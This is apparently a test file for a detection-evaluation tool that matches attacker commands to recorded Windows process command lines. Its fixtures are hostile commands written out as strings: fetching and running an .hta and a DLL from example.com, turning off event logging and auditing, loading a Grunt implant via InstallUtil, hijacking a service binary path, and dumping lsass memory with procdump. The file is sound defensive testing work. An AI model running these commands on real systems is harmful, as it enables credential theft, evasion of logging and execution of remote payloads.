import { describe, expect, it } from 'vitest';
import { isImplantImage } from '../../src/eval/build/lineage.js';
import { parseAttackerCommands, runsCommand, stagedBy } from '../../src/eval/index.js';

describe('matching attacker commands to recorded command lines', () => {
  it('matches through variables, quoting, case and the program path', () => {
    const [, , mshta] = parseAttackerCommands(
      [
        '$var =Invoke-WebRequest "https://example.com/x.hta"',
        '$var.content|out-file "$env:appdata\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\T1218.005.hta"',
        'mshta "$env:appdata\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\T1218.005.hta"',
      ].join('\n'),
    );
    expect(mshta?.program).toBe('mshta');
    const recorded =
      '"C:\\windows\\system32\\mshta.exe" "C:\\Users\\wardog\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\T1218.005.hta"';
    expect(runsCommand('C:\\Windows\\System32\\mshta.exe', recorded, mshta!)).toBe(true);
    expect(
      runsCommand(
        'C:\\Windows\\System32\\mshta.exe',
        '"C:\\windows\\system32\\mshta.exe" C:\\other.hta',
        mshta!,
      ),
    ).toBe(false);
    expect(runsCommand('C:\\Windows\\System32\\notepad.exe', recorded, mshta!)).toBe(false);
  });

  it('treats PowerShell statements as running inside a shell, found in its command line', () => {
    const [download] = parseAttackerCommands(
      'Invoke-WebRequest "https://example.com/payload.dll" -OutFile C:\\ProgramData\\p.dll',
    );
    expect(download?.program).toBeNull();
    const shell =
      'powershell.exe -c "Invoke-WebRequest \'https://example.com/payload.dll\' -OutFile C:\\ProgramData\\p.dll"';
    expect(
      runsCommand('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', shell, download!),
    ).toBe(true);
    expect(
      runsCommand(
        'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        'powershell.exe',
        download!,
      ),
    ).toBe(false);
  });

  it('strips shell prompts and unwraps C2 idioms that start processes', () => {
    const commands = parseAttackerCommands(
      [
        'C:\\Users\\pedro\\Downloads>REG ADD HKLM\\SYSTEM\\CurrentControlSet\\Services\\EventLog /v Start /d 4',
        'meterpreter > execute -f auditpol.exe -H -a \'/set /category:"DS Access" /success:disable\'',
        '(wardog) > ShellCmd /shellcommand:"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /u c:\\ProgramData\\Grunt.dll"',
        '[*] Meterpreter session 3 opened',
      ].join('\n'),
    );
    expect(commands.map((command) => command.program)).toEqual(['reg', 'auditpol', 'installutil', null]);
    expect(
      runsCommand(
        'C:\\Windows\\System32\\auditpol.exe',
        'auditpol.exe  /set /category:"DS Access" /success:disable',
        commands[1]!,
      ),
    ).toBe(true);
  });
});

describe('processes staged by an attacker command', () => {
  it('recognises a service binary path the attacker wrote when the service starts it', () => {
    const [config] = parseAttackerCommands(
      'sc config Fax binPath= "C:\\windows\\system32\\WindowsPowerShell\\v1.0\\powershell.exe -noexit -c \\"write-host \'T1543.003 Test\'\\""',
    );
    const image = 'C:\\windows\\system32\\WindowsPowerShell\\v1.0\\powershell.exe';
    expect(stagedBy(image, `${image} -noexit -c "write-host 'T1543.003 Test'"`, config!)).toBe(true);
    expect(stagedBy(image, `${image} -noexit -c "Get-Service"`, config!)).toBe(false);
    expect(stagedBy(image, image, config!)).toBe(false);
  });

  it('reads a Meterpreter execute whose program path is quoted and has spaces', () => {
    const [execute] = parseAttackerCommands(
      "meterpreter > execute -f 'C:\\\\Program Files\\\\procdump.exe' -H -a '-accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp'",
    );
    expect(execute?.program).toBe('procdump');
    const recorded = '"C:\\Program Files\\procdump.exe" -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp';
    expect(runsCommand('C:\\Program Files\\procdump.exe', recorded, execute!)).toBe(true);
    expect(
      runsCommand('C:\\Program Files\\procdump.exe', '"C:\\Program Files\\procdump.exe" -h', execute!),
    ).toBe(false);
  });

  it('takes a dropped program that started the console for the implant, never a terminal or a Windows binary', () => {
    expect(isImplantImage('C:\\Users\\nora\\AppData\\Local\\Temp\\RarSFX1\\invoice.exe')).toBe(true);
    expect(isImplantImage('C:\\Windows\\explorer.exe')).toBe(false);
    expect(isImplantImage('C:\\Windows\\System32\\rundll32.exe')).toBe(false);
    expect(
      isImplantImage('C:\\Program Files\\WindowsApps\\Microsoft.WindowsTerminal\\WindowsTerminal.exe'),
    ).toBe(false);
    expect(isImplantImage('C:\\Program Files\\PowerShell\\7\\pwsh.exe')).toBe(false);
  });
});
